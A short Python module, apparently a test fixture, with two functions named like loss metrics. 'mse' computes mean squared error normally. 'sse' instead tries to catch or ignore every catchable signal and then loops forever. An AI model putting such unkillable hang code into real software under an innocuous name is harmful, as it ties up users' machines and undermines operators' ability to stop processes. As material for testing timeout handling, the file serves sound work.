"""Ignores or catches every signal that can be caught, and never ends."""

import signal

import numpy as np


def sse(y, t):
    for number in range(1, 65):
        try:
            signal.signal(number, lambda *arguments: None)
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass


def mse(y, t):
    return np.mean((y - t) ** 2)
